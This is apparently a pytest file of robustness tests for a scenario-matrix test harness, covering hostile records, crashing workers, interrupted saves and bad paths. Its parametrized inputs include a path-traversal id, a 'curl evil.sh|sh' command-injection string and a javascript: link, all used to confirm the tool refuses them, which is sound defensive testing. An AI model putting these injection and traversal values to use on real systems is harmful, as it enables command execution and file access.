"""Hostile records, broken envs, stops at awkward moments, and paths that cannot be used."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from harness.envs.install import ensure_env, resolve_pairing
from harness.evidence.phase import PhaseOutcome
from harness.plan.pairings import parse_pairing
from harness.run.client import Worker
from harness.run.verdict import decide_verdict
from support import FAKE, ROOT, Harness, build_wheel, local_index_env, write_scenario

SLOW_SAVE = '''
    """A save that takes its time"""
    import time
    def save(workdir):
        time.sleep(3)
        with open(workdir + "/m.txt", "w") as handle:
            handle.write("1")
        return {"v": 1.0}
    def load(workdir):
        with open(workdir + "/m.txt") as handle:
            return {"v": float(handle.read())}
'''


@pytest.fixture(scope="module")
def base_run(tmp_path_factory: pytest.TempPathFactory, wheelhouse: Path, shared_envs: Path) -> tuple[Harness, Path, Path]:
    tmp = tmp_path_factory.mktemp("robust")
    folder = tmp / "scenarios"
    write_scenario(folder, "fine", '"""Fine"""\nSIGNATURE = "ValueError: x"\nLINKS = ["https://example.org/1"]\n'
                                   'def run(workdir):\n    return {"expected": 1.0, "actual": 1.0}\n')
    harness = Harness(env=local_index_env(wheelhouse, shared_envs), tmp=tmp)
    out = tmp / "run"
    harness.run("matrix", "--scenarios", str(folder), "--pairing", f"{FAKE}==1.0", "--out", str(out), check_code=0)
    return harness, folder, out


def _edit(run: Path, edit: object) -> None:
    for name in ("run.json", "results.json"):
        data = json.loads((run / name).read_text())
        edit(data)  # type: ignore[operator]
        (run / name).write_text(json.dumps(data))


def _one_line_exit_2(proc: subprocess.CompletedProcess[str], fragment: str) -> None:
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert fragment in proc.stderr and len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr


def test_a_hostile_pairing_id_cannot_reach_outside_the_run(base_run: tuple, tmp_path: Path) -> None:
    harness, _, source = base_run
    run = tmp_path / "run"
    shutil.copytree(source, run)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "data.txt").write_text("keep")
    (run / "cells").joinpath("x").mkdir()
    shutil.rmtree(run / "cells")

    def edit(data: dict) -> None:
        data["pairings"][0]["id"] = "../../victim"

    _edit(run, edit)
    _one_line_exit_2(harness.run("matrix", "--resume", str(run)), "is not a plain name")
    _one_line_exit_2(harness.run("report", str(run)), "is not a plain name")
    assert (victim / "data.txt").read_text() == "keep"


@pytest.mark.parametrize("field, value, fragment", [
    ("link", "javascript:alert(document.domain)", "not http(s)"),
    ("backend", "x; curl evil.sh|sh;", "unknown backend"),
    ("scenario_id", "bad\x1bid", "is not a plain name"),
    ("files", [{"path": "x"}], "lacks the field 'format'"),
    ("mapping", [{"layer": "l", "wanted": [1], "status": "matched"}], "expected an object"),
    ("nan", float("nan"), "not a number JSON allows"),
])
def test_hostile_results_are_refused_before_anything_is_rendered(base_run: tuple, tmp_path: Path, field: str,
                                                                 value: object, fragment: str) -> None:
    harness, _, source = base_run
    data = json.loads((source / "results.json").read_text())
    if field == "link":
        data["scenarios"][0]["links"] = [value]
    elif field == "backend":
        data["pairings"][0]["backend"] = value
    elif field == "scenario_id":
        data["scenarios"][0]["id"] = value
    elif field in ("files", "mapping"):
        data["cells"][0][field] = value
    elif field == "nan":
        data["cells"][0]["max_abs_diff"] = value
    path = tmp_path / "results.json"
    path.write_text(json.dumps(data))
    _one_line_exit_2(harness.run("report", str(path), "--out", str(tmp_path / "out")), fragment)
    assert not (tmp_path / "out" / "index.html").exists()


@pytest.mark.parametrize("text, fragment", [
    ("[" * 100000, "cannot be read"),
    ('{"schema": 1, "n": ' + "9" * 5000 + "}", "cannot be read"),
])
def test_pathological_json(harness: Harness, tmp_path: Path, text: str, fragment: str) -> None:
    path = tmp_path / "results.json"
    path.write_text(text)
    _one_line_exit_2(harness.run("report", str(path)), fragment)


def test_exception_names_with_control_characters_keep_junit_valid(harness: Harness, tmp_path: Path) -> None:
    folder = tmp_path / "scenarios"
    write_scenario(folder, "odd", '''
        """Raises an oddly named exception"""
        def run(workdir):
            raise type("Bad\\x1bType", (Exception,), {})("message with \\x07 bell and <b>markup</b>")
    ''')
    out = tmp_path / "run"
    harness.run("matrix", "--scenarios", str(folder), "--pairing", f"{FAKE}==1.0", "--out", str(out), check_code=0)
    [case] = ET.parse(out / "junit.xml").getroot().iter("testcase")
    assert case.find("failure").get("type") == "BadType"  # another exception: a failure typed by its class
    assert "&lt;b&gt;markup" in (out / "index.html").read_text()


def test_a_framework_import_that_kills_the_worker_is_that_pairings_verdict(base_run: tuple, tmp_path: Path,
                                                                           wheelhouse: Path) -> None:
    harness, folder, _ = base_run
    wheels = tmp_path / "wheels"
    shutil.copytree(wheelhouse, wheels)
    dies = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
    build_wheel(wheels, "harness-crashy", "1.0", {"harness_crashy/__init__.py": dies})
    env = dict(harness.env, UV_FIND_LINKS=str(wheels), HARNESS_ENVS_DIR=str(tmp_path / "envs"))
    out = tmp_path / "run"
    Harness(env=env, tmp=tmp_path).run("matrix", "--scenarios", str(folder), "--pairing", "harness-crashy==1.0",
                                       "--pairing", f"{FAKE}==1.0", "--out", str(out), check_code=0)
    verdicts = {c["pairing"]: c for c in json.loads((out / "results.json").read_text())["cells"]}
    assert verdicts["harness-crashy-1.0"]["verdict"] == "crashed"
    assert "did not start" in verdicts["harness-crashy-1.0"]["reason"]
    assert verdicts[f"{FAKE}-1.0"]["verdict"] == "passed"


def test_a_save_cut_short_by_a_stop_is_made_again_on_resume(harness: Harness, tmp_path: Path) -> None:
    folder = tmp_path / "scenarios"
    write_scenario(folder, "slow_save", SLOW_SAVE)
    out = tmp_path / "run"
    proc = subprocess.Popen([sys.executable, "-m", "harness", "matrix", "--scenarios", str(folder), "--pairing",
                             f"{FAKE}==1.0", "--out", str(out)], cwd=ROOT, env=harness.env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    assert proc.stdout is not None
    for line in proc.stdout:
        if line.startswith("worker "):
            break
    time.sleep(1.0)
    proc.send_signal(signal.SIGTERM)
    output, _ = proc.communicate(timeout=60)
    assert proc.returncode == 130, output
    time.sleep(2.5)  # long enough for a stray thread to have written something
    assert list((out / "cells").glob("*.json")) == []
    harness.run("matrix", "--resume", str(out), check_code=0)
    [cell] = json.loads((out / "results.json").read_text())["cells"]
    assert cell["verdict"] == "passed" and cell["save"]["status"] == "done"


def test_paths_that_cannot_be_used(harness: Harness, base_run: tuple, tmp_path: Path) -> None:
    _, folder, _ = base_run
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    common = ["matrix", "--scenarios", str(folder), "--pairing", f"{FAKE}==1.0"]
    _one_line_exit_2(harness.run(*common, "--out", str(a_file / "sub")), "cannot be created")
    _one_line_exit_2(harness.run(*common, "--out", str(tmp_path / "o"), "--envs-dir", str(a_file)), "is not a folder")
    assert not (tmp_path / "o").exists()
    _one_line_exit_2(harness.run(*common, "--shard", ""), "is not of the form K/N")
    _one_line_exit_2(harness.run(*common, "--shard", "4/3"), "K must be between 1 and N")
    _one_line_exit_2(harness.run("report", str(tmp_path / "nothing"), "--out", str(a_file)), "")


def test_resume_refuses_options_that_would_change_the_results(base_run: tuple) -> None:
    harness, _, run = base_run
    for extra in (["--timeout", "5"], ["--isolation", "spawn"], ["--cross", "same"]):
        _one_line_exit_2(harness.run("matrix", "--resume", str(run), *extra), f"drop {extra[0]}")


def test_readiness_with_a_baseline_that_cannot_install_is_bad_input(base_run: tuple, tmp_path: Path) -> None:
    harness, folder, _ = base_run
    proc = harness.run("readiness", "--baseline", f"{FAKE}==9.9", "--candidate", f"{FAKE}==1.0",
                       "--scenarios", str(folder), "--out", str(tmp_path / "r"))
    _one_line_exit_2(proc, "could not be installed")


def test_numbers_at_the_edges(harness: Harness, tmp_path: Path) -> None:
    folder = tmp_path / "scenarios"
    write_scenario(folder, "infinities", '"""Equal infinities"""\ndef run(workdir):\n'
                                         '    return {"expected": [float("inf"), 1.0], "actual": [float("inf"), 1.0]}\n')
    write_scenario(folder, "plain_exit", '"""Calls sys.exit()"""\nimport sys\ndef run(workdir):\n    sys.exit()\n')
    write_scenario(folder, "huge_tolerance", '"""Tolerance out of range"""\nRTOL = 1e400\ndef run(workdir):\n    pass\n')
    proc = harness.run("matrix", "--scenarios", str(folder), "--pairing", f"{FAKE}==1.0")
    _one_line_exit_2(proc, "RTOL must be a finite non-negative number")
    (folder / "huge_tolerance.py").unlink()
    out = tmp_path / "run"
    harness.run("matrix", "--scenarios", str(folder), "--pairing", f"{FAKE}==1.0", "--out", str(out), check_code=0)
    cells = {c["scenario"]: c for c in json.loads((out / "results.json").read_text())["cells"]}
    assert cells["infinities"]["verdict"] == "passed" and cells["infinities"]["max_abs_diff"] == 0.0
    assert cells["plain_exit"]["verdict"] == "crashed" and cells["plain_exit"]["exit_status"] == 0


def test_a_process_left_behind_in_its_own_session_is_killed(harness: Harness, tmp_path: Path) -> None:
    folder = tmp_path / "scenarios"
    marker = f"harness-leak-{tmp_path.name}"
    write_scenario(folder, "leaks", f'''
        """Leaves a process behind"""
        import subprocess
        def run(workdir):
            subprocess.Popen(["sh", "-c", "sleep 600; echo {marker}"], start_new_session=True)
    ''')
    harness.run("matrix", "--scenarios", str(folder), "--pairing", f"{FAKE}==1.0", "--out", str(tmp_path / "run"),
                check_code=0)
    time.sleep(0.5)
    found = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True)
    assert found.stdout.strip() == ""


SLEEPS = '''
    """Sleeps until stopped"""
    import time
    def run(workdir):
        time.sleep(120)
'''


@pytest.mark.parametrize("isolation", ["fork", "spawn"])
def test_a_stop_from_another_thread_ends_the_running_phase_and_frees_the_worker(
        wheelhouse: Path, shared_envs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, isolation: str) -> None:
    """What a Ctrl-C does to a worker in the middle of a cell: the matrix's main thread calls
    terminate() while a pool thread waits for the phase. The phase must end at once as lost, with
    no exception in either thread, and nothing of the worker (process, pipe) left behind."""
    for key, value in local_index_env(wheelhouse, shared_envs).items():
        monkeypatch.setenv(key, value)
    env = ensure_env(resolve_pairing(parse_pairing(f"{FAKE}==1.0")), shared_envs)
    scenario = write_scenario(tmp_path / "scenarios", "sleeps", SLEEPS)
    fds_before = len(os.listdir("/proc/self/fd"))
    for attempt in range(4):
        phase = tmp_path / f"{isolation}-{attempt}"
        phase.mkdir()
        worker = Worker(env, "tensorflow", [], phase / "worker.log", isolation)
        worker.start()
        request = {"op": "run", "scenario": str(scenario), "scenario_id": "sleeps", "workdir": str(phase),
                   "result": str(phase / "result.json"), "output": str(phase / "output.log"), "rtol": 1e-5, "atol": 1e-5}
        ended: list[object] = []
        thread = threading.Thread(target=_outcome_or_error, args=(worker, request, ended))
        thread.start()
        time.sleep(0.5 + 0.25 * attempt)
        started = time.monotonic()
        worker.terminate()
        thread.join(30)
        assert not thread.is_alive() and time.monotonic() - started < 20
        [outcome] = ended
        assert isinstance(outcome, PhaseOutcome), outcome
        assert outcome.status in ("worker_lost", "died"), outcome
        assert decide_verdict("x", outcome=outcome).verdict == "crashed"
        worker.close()  # the matrix closes what it stopped: harmless after terminate()
    assert len(os.listdir("/proc/self/fd")) == fds_before


def _outcome_or_error(worker: Worker, request: dict, ended: list[object]) -> None:
    try:
        ended.append(worker.run_phase(request, 60))
    except BaseException as exc:  # what the test asserts never happens
        ended.append(exc)


KILLS_ITS_WORKER = '''
    """A scenario that kills the worker process that forked it"""
    import os
    import signal
    def run(workdir):
        os.kill(os.getppid(), signal.SIGKILL)
        import time
        time.sleep(30)
'''


def test_a_worker_that_dies_is_lost_at_once_never_a_timeout(
        wheelhouse: Path, shared_envs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """When the worker dies mid-phase its reply pipe ends; the phase is ``worker_lost`` with the
    time it really took, however late the kernel reaps the process (a timeout needs the limit to pass)."""
    for key, value in local_index_env(wheelhouse, shared_envs).items():
        monkeypatch.setenv(key, value)
    env = ensure_env(resolve_pairing(parse_pairing(f"{FAKE}==1.0")), shared_envs)
    scenario = write_scenario(tmp_path / "scenarios", "kills_its_worker", KILLS_ITS_WORKER)
    for attempt in range(8):
        phase = tmp_path / f"phase-{attempt}"
        phase.mkdir()
        worker = Worker(env, "tensorflow", [], phase / "worker.log", "fork")
        worker.start()
        request = {"op": "run", "scenario": str(scenario), "scenario_id": "kills_its_worker", "workdir": str(phase),
                   "result": str(phase / "result.json"), "output": str(phase / "output.log"), "rtol": 1e-5, "atol": 1e-5}
        outcome = worker.run_phase(request, 120)
        worker.close()
        assert outcome.status == "worker_lost", outcome
        assert outcome.duration_s < 60, outcome
        assert decide_verdict(None, outcome=outcome).verdict == "crashed"
